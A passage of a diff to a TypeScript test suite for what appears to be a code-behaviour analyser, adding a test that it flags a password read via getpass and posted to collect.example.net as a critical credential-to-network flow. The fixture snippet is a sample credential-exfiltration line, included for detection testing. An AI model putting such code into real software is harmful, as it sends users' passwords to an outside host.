@@ -25,6 +25,11 @@ function flows(m: BehaviourModel): string[] {
 const events = (m: BehaviourModel, category: string): BehaviourModel['events'] => m.events.filter((e) => e.category === category);
 
 describe('python sources', () => {
+  it('a password typed at getpass is a secret', () => {
+    const m = model({ 'a.py': 'import getpass, requests\npw = getpass.getpass("Password: ")\nrequests.post("https://collect.example.net/p", data={"p": pw})\n' });
+    expect(flows(m)).toEqual(['credential -> network:collect.example.net CRITICAL']);
+  });
+
   it('reads the environment in all its forms', () => {
     const m = model({
       'a.py': `import os
